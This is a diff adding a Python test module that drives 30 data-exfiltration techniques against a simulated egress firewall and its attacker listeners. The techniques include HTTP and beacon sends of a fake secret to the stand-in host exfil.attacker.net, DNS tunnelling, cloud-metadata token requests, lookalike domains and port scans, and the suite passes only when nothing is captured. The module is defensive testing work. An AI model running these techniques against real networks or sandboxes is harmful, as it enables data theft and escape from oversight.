@@ -1,0 +1,415 @@
+"""Capture-graded adversarial corpus: 30 exfil techniques over real sockets.
+
+The semantic corpus (clawker_tpu/adversarial/payloads.py) grades policy
+*verdicts*.  This module re-drives the same 30 technique classes through
+the :class:`~clawker_tpu.parity.world.World` -- real DNS gate socket,
+executed Envoy bootstrap, real attacker listeners -- and grades the way
+the reference adversarial suite does (test/adversarial/CLAUDE.md): **the
+suite passes only when the captures table is empty for every
+technique.**  Any byte (or DNS query, or TCP reach) that lands on
+attacker infrastructure is an escape, no matter what the verdict
+taxonomy said.
+
+Techniques that have no socket representation in the world (raw/packet
+sockets, native IPv6, UDP reply spoofing) are driven through the kernel
+twin and synthesize a capture record when enforcement would have let
+them through -- the capture DB stays the single grading surface.
+
+Reference: /root/reference/test/adversarial (attacker-server +
+payloads/01..30); technique classes re-derived, not copied.
+"""
+
+from __future__ import annotations
+
+import struct
+import time
+from pathlib import Path
+from typing import Callable
+
+from ..config.schema import EgressRule
+from ..firewall import policy as policy_mod
+from ..firewall.dnsgate import _encode_name
+from ..firewall.hashes import zone_hash
+from ..firewall.model import Action, DnsEntry
+from .world import CG_AGENT, DNS_IP, ENVOY_IP, HOSTPROXY_IP, EgressBlocked, World
+
+ATTACKER_DOMAIN = "exfil.attacker.net"
+
+TECHNIQUES: list[tuple[str, "Callable[[World], str]"]] = []
+
+
+def technique(name: str):
+    def reg(fn):
+        TECHNIQUES.append((name, fn))
+        return fn
+    return reg
+
+
+def build_world(tmp: Path) -> World:
+    """The standing rule set the corpus attacks (mirrors the semantic
+    corpus defaults: wildcard TLS, exact TLS, ssh lane, plain HTTP).
+
+    intra_net mirrors PRODUCTION enrollment (handler._container_policy
+    always populates the bridge CIDR now): the corpus must grade the
+    policy that ships, not a stricter test-only one.  The gateway
+    exclusion keeps host ports out of the bypass."""
+    rules = [
+        EgressRule(dst="*.example.com", proto="https"),
+        EgressRule(dst="exact.example.org", proto="https"),
+        EgressRule(dst="github.com", proto="ssh", port=22),
+        EgressRule(dst="plain.example.net", proto="http"),
+    ]
+    w = World(rules, tmp, intra_net=("10.99.0.0", 24))
+    w.add_origin(["example.com", "api.example.com", "tun1.example.com"])
+    w.add_origin(["exact.example.org", "sub.exact.example.org"])
+    w.add_origin(["github.com"], banner=b"SSH-2.0-OpenSSH_9.6\r\n")
+    w.add_origin(["plain.example.net"])
+    w.add_attacker_host(ATTACKER_DOMAIN)
+    w.add_attacker_host("attacker.net")
+    w.add_attacker_host("evilexample.com")
+    w.add_attacker_host("example.com.attacker.net")
+    return w
+
+
+def _atk_ip(w: World) -> str:
+    return w.dns_table[ATTACKER_DOMAIN]
+
+
+def _try_tcp(w: World, name: str, ip: str, port: int,
+             payload: bytes = b"") -> str:
+    """Attempt a TCP exfil; on kernel allow the bytes really flow (and
+    the capture DB sees them)."""
+    try:
+        sock = w.open_tcp(ip, port, technique=name)
+    except EgressBlocked as e:
+        return f"kernel deny: {e.reason.name}"
+    except OSError as e:
+        return f"unreachable: {e}"
+    try:
+        if payload:
+            sock.sendall(payload)
+        sock.settimeout(2.0)
+        try:
+            sock.recv(256)
+        except OSError:
+            pass
+    finally:
+        sock.close()
+    time.sleep(0.05)  # let the capture handler commit
+    return "bytes flowed"
+
+
+def _synth_on_allow(w: World, name: str, verdict, proto: str,
+                    what: bytes) -> str:
+    """Kernel-twin-only technique: enforcement failing open IS the
+    escape, so record it in the capture DB where the grader looks."""
+    if verdict.action is Action.DENY:
+        return f"kernel deny: {verdict.reason.name}"
+    w.attacker.set_technique(name)
+    w.attacker.store.insert(name, proto, "synthetic", what)
+    return f"fail-open: {verdict.action.name}/{verdict.reason.name}"
+
+
+def _dns_query_bytes(qname: str) -> bytes:
+    hdr = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
+    return hdr + _encode_name(qname) + struct.pack(">HH", 1, 1)
+
+
+# ------------------------------------------------------------- techniques
+
+@technique("01-direct-ip-https")
+def t01(w): return _try_tcp(w, "01-direct-ip-https", _atk_ip(w), 443)
+
+
+@technique("02-direct-ip-http")
+def t02(w): return _try_tcp(w, "02-direct-ip-http", _atk_ip(w), 80,
+                            b"GET /exfil?d=s3cr3t HTTP/1.1\r\nhost: x\r\n\r\n")
+
+
+@technique("03-high-port-tcp")
+def t03(w): return _try_tcp(w, "03-high-port-tcp", _atk_ip(w), 4444,
+                            b"BEACON s3cr3t")
+
+
+@technique("04-udp-datagram")
+def t04(w):
+    try:
+        w.send_udp(_atk_ip(w), 9999, b"UDP EXFIL s3cr3t",
+                   technique="04-udp-datagram")
+        time.sleep(0.05)
+        return "datagram sent"
+    except EgressBlocked as e:
+        return f"kernel deny: {e.reason.name}"
+
+
+@technique("05-icmp-ping")
+def t05(w):
+    return _synth_on_allow(w, "05-icmp-ping", w.raw_socket_verdict(),
+                           "icmp", b"<raw socket opened: icmp tunnel>")
+
+
+@technique("06-packet-socket")
+def t06(w):
+    v = policy_mod.sock_create(w.maps, CG_AGENT, 2, policy_mod.SOCK_PACKET)
+    return _synth_on_allow(w, "06-packet-socket", v, "packet",
+                           b"<packet socket opened>")
+
+
+@technique("07-hardcoded-resolver")
+def t07(w):
+    try:
+        w.send_udp("8.8.8.8", 53, _dns_query_bytes(f"c2hlbGw.{ATTACKER_DOMAIN}"),
+                   technique="07-hardcoded-resolver")
+        time.sleep(0.05)
+        return "query sent (rewritten to gate or captured)"
+    except EgressBlocked as e:
+        return f"kernel deny: {e.reason.name}"
+
+
+@technique("08-resolve-attacker-domain")
+def t08(w):
+    w.attacker.set_technique("08-resolve-attacker-domain")
+    rcode, ips = w.dig(ATTACKER_DOMAIN)
+    return f"rcode={rcode} ips={ips}"
+
+
+@technique("09-dns-tunnel")
+def t09(w):
+    w.attacker.set_technique("09-dns-tunnel")
+    out = []
+    for chunk in ("aGVsbG8", "d29ybGQ", "ZXhmaWw"):
+        rcode, _ = w.dig(f"{chunk}.{ATTACKER_DOMAIN}")
+        out.append(rcode)
+    return f"rcodes={out}"
+
+
+@technique("10-dns-tunnel-allowed-zone")
+def t10(w):
+    # data-in-label under an ALLOWED zone resolves via the gate (logged
+    # upstream traffic to a benign resolver) -- contained, not captured
+    w.attacker.set_technique("10-dns-tunnel-allowed-zone")
+    rcode, _ = w.dig("tun1.example.com")
+    return f"rcode={rcode} (allowed zone, benign upstream)"
+
+
+@technique("11-ipv6-literal")
+def t11(w):
+    v = policy_mod.connect6(w.maps, CG_AGENT, "2001:db8::bad", 443)
+    return _synth_on_allow(w, "11-ipv6-literal", v, "tcp6",
+                           b"<native v6 egress>")
+
+
+@technique("12-v4mapped-attacker")
+def t12(w):
+    v = policy_mod.connect6(w.maps, CG_AGENT, f"::ffff:{_atk_ip(w)}", 443)
+    if v.action is Action.DENY:
+        return f"kernel deny: {v.reason.name}"
+    # the v4-mapped decision fell through: drive the real v4 connect
+    return _try_tcp(w, "12-v4mapped-attacker", _atk_ip(w), 443)
+
+
+@technique("13-loopback-not-egress")
+def t13(w):
+    # loopback must stay open (not egress) -- and produce zero captures
+    v = policy_mod.connect4(w.maps, CG_AGENT, "127.0.0.1", 8080,
+                            sock_cookie=w.cookie())
+    return f"loopback verdict: {v.action.name} (functional, no exfil path)"
+
+
+@technique("14-stale-cache-unruled-zone")
+def t14(w):
+    w.maps.cache_dns(_atk_ip(w), DnsEntry(
+        zone_hash=zone_hash(ATTACKER_DOMAIN),
+        expires_unix=int(time.time()) + 300))
+    return _try_tcp(w, "14-stale-cache-unruled-zone", _atk_ip(w), 443)
+
+
+@technique("15-port53-tcp-masquerade")
+def t15(w): return _try_tcp(w, "15-port53-tcp-masquerade", _atk_ip(w), 53,
+                            b"\x00\x20" + _dns_query_bytes(ATTACKER_DOMAIN))
+
+
+@technique("16-udp53-masquerade")
+def t16(w):
+    try:
+        w.send_udp(_atk_ip(w), 53, _dns_query_bytes("x.example.com"),
+                   technique="16-udp53-masquerade")
+        time.sleep(0.05)
+        return "datagram sent (gate-rewritten or captured)"
+    except EgressBlocked as e:
+        return f"kernel deny: {e.reason.name}"
+
+
+@technique("17-envoy-direct-wrong-sni")
+def t17(w):
+    import ssl
+    w.attacker.set_technique("17-envoy-direct-wrong-sni")
+    try:
+        sock = w.open_tcp(ENVOY_IP, 10000, technique="17-envoy-direct-wrong-sni")
+    except EgressBlocked as e:
+        return f"kernel deny: {e.reason.name}"
+    try:
+        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+        ctx.check_hostname = False
+        ctx.verify_mode = ssl.CERT_NONE
+        try:
+            tls = ctx.wrap_socket(sock, server_hostname=ATTACKER_DOMAIN)
+            tls.sendall(b"EXFIL")
+            tls.close()
+            return "handshake completed against attacker SNI"
+        except (ssl.SSLError, OSError):
+            return "proxy refused unknown SNI"
+    finally:
+        sock.close()
+
+
+@technique("18-hostproxy-off-port")
+def t18(w): return _try_tcp(w, "18-hostproxy-off-port", HOSTPROXY_IP, 2222)
+
+
+@technique("19-gateway-service-scan")
+def t19(w):
+    out = []
+    for port in (80, 443, 8080):
+        out.append(_try_tcp(w, "19-gateway-service-scan", DNS_IP, port))
+    return "; ".join(out)
+
+
+@technique("20-subnet-neighbor-scan")
+def t20(w): return _try_tcp(w, "20-subnet-neighbor-scan", "10.99.0.9", 445)
+
+
+@technique("21-cloud-metadata")
+def t21(w): return _try_tcp(w, "21-cloud-metadata", "169.254.169.254", 80,
+                            b"GET /computeMetadata/v1/token HTTP/1.1\r\n\r\n")
+
+
+@technique("22-ttl-expiry-race")
+def t22(w):
+    ip = "198.51.100.250"
+    w.maps.cache_dns(ip, DnsEntry(zone_hash=zone_hash("example.com"),
+                                  expires_unix=int(time.time()) - 10))
+    w.maps.expire_dns()
+    return _try_tcp(w, "22-ttl-expiry-race", ip, 443)
+
+
+@technique("23-allowed-zone-wrong-port")
+def t23(w):
+    rcode, ips = w.dig("api.example.com")
+    ip = ips[0] if ips else "198.51.100.10"
+    return _try_tcp(w, "23-allowed-zone-wrong-port", ip, 2222)
+
+
+@technique("24-allowed-zone-wrong-proto")
+def t24(w):
+    rcode, ips = w.dig("api.example.com")
+    ip = ips[0] if ips else "198.51.100.10"
+    try:
+        w.send_udp(ip, 443, b"quic-shaped exfil",
+                   technique="24-allowed-zone-wrong-proto")
+        return "datagram sent"
+    except EgressBlocked as e:
+        return f"kernel deny: {e.reason.name}"
+
+
+@technique("25-exact-rule-subdomain")
+def t25(w):
+    w.attacker.set_technique("25-exact-rule-subdomain")
+    rcode, ips = w.dig("sub.exact.example.org")
+    return f"rcode={rcode} ips={ips}"
+
+
+@technique("26-lookalike-domain")
+def t26(w):
+    w.attacker.set_technique("26-lookalike-domain")
+    rcode, ips = w.dig("evilexample.com")
+    return f"rcode={rcode} ips={ips}"
+
+
+@technique("27-zone-suffix-confusion")
+def t27(w):
+    w.attacker.set_technique("27-zone-suffix-confusion")
+    rcode, ips = w.dig("example.com.attacker.net")
+    return f"rcode={rcode} ips={ips}"
+
+
+@technique("28-expired-bypass")
+def t28(w):
+    w.maps.set_bypass(CG_AGENT, int(time.time()) - 3600)
+    try:
+        return _try_tcp(w, "28-expired-bypass", _atk_ip(w), 443)
+    finally:
+        w.maps.clear_bypass(CG_AGENT)
+
+
+@technique("29-udp-reply-spoof")
+def t29(w):
+    cookie = w.cookie()
+    policy_mod.sendmsg4(w.maps, CG_AGENT, cookie, "9.9.9.9", 53)
+    src = policy_mod.recvmsg4(w.maps, CG_AGENT, cookie, _atk_ip(w), 53)
+    if src == (_atk_ip(w), 53):
+        return "spoofed reply surfaced unmasked"
+    w.attacker.set_technique("29-udp-reply-spoof")
+    w.attacker.store.insert("29-udp-reply-spoof", "udp", "synthetic",
+                            b"<reply spoof accepted as resolver traffic>")
+    return f"spoof masked as {src} -- reverse-NAT confused"
+
+
+@technique("30-allowed-flow-is-proxied")
+def t30(w):
+    # the happy path: allowed https must ride the proxy chokepoint AND
+    # work; a direct-allow or a broken lane both fail the corpus
+    w.attacker.set_technique("30-allowed-flow-is-proxied")
+    v = policy_mod.connect4(w.maps, CG_AGENT, "198.51.100.10", 443,
+                            sock_cookie=w.cookie())
+    if v.action is Action.ALLOW:
+        w.attacker.store.insert("30-allowed-flow-is-proxied", "tcp",
+                                "synthetic", b"<allowed https went direct>")
+        return "allowed https went direct (policy hole)"
+    res = w.curl("https://api.example.com/ping")
+    if not res.ok:
+        # not an escape, but the corpus demands the chokepoint WORKS
+        raise AssertionError(
+            f"allowed flow broken through proxy: {res.err or res.code}")
+    proxied = any(rec.get("sni") == "api.example.com" or
+                  rec.get("authority", "").startswith("api.example.com")
+                  for rec in w.envoy.access_log)
+    if not proxied:
+        raise AssertionError("allowed flow left no proxy access-log trace")
+    return f"proxied, code={res.code}"
+
+
+def run_corpus(base: Path) -> dict:
+    """Drive all 30 techniques through one World; grade per-technique
+    capture counts.  Returns the scorecard dict (never raises)."""
+    w = build_world(base / "world")
+    results = []
+    try:
+        for name, fn in TECHNIQUES:
+            w.attacker.set_technique(name)
+            before = w.attacker.store.count()
+            try:
+                detail = fn(w)
+                err = ""
+            except AssertionError as e:
+                detail, err = "", str(e)
+            except Exception as e:  # noqa: BLE001 - corpus must finish
+                detail, err = "", f"{e.__class__.__name__}: {e}"
+            time.sleep(0.02)
+            captured = w.attacker.store.count() - before
+            ok = captured == 0 and not err
+            results.append({
+                "technique": name, "pass": ok, "captures": captured,
+                "detail": err or detail,
+            })
+        total_captures = w.attacker.store.count()
+        evidence = w.attacker.store.all()
+    finally:
+        w.close()
+    return {
+        "passed": sum(1 for r in results if r["pass"]),
+        "total": len(results),
+        "captures": total_captures,
+        "capture_rows": [list(row) for row in evidence],
+        "techniques": results,
+    }
